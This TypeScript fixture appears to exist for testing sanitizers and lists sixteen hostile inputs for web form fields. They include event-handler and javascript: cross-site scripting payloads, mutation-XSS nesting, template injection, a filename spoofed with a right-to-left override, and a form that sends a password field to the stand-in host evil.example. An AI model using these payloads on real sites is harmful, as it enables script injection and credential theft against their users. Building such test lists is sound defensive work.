/** Texts that a person may type into a field shown on a page. Each tries to run, load or hide something. */
export const hostileTexts = [
  '<svg onload=alert(1)>picture',
  '<img src=x onerror=alert(1)>photo',
  '"><script>alert(1)</script>quoted',
  '<a href="javascript:alert(1)">press</a>',
  '<a href="jav&#x09;ascript:alert(1)">tabbed</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>formula',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">mutated',
  '<form action=//evil.example><input name=password autofocus onfocus=alert(1)>form',
  '<p style="position:fixed;inset:0;background:url(//evil.example/x)">styled</p>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>framed',
  '<template><script>alert(1)</script></template>shadow',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s><foreignObject><body onload=alert(1)>drawing',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>object',
  '[link](javascript:alert(1)) **markdown**',
  '{{constructor.constructor("alert(1)")()}}template',
  '\u202Egnp.exe\u2066 reversed',
] as const
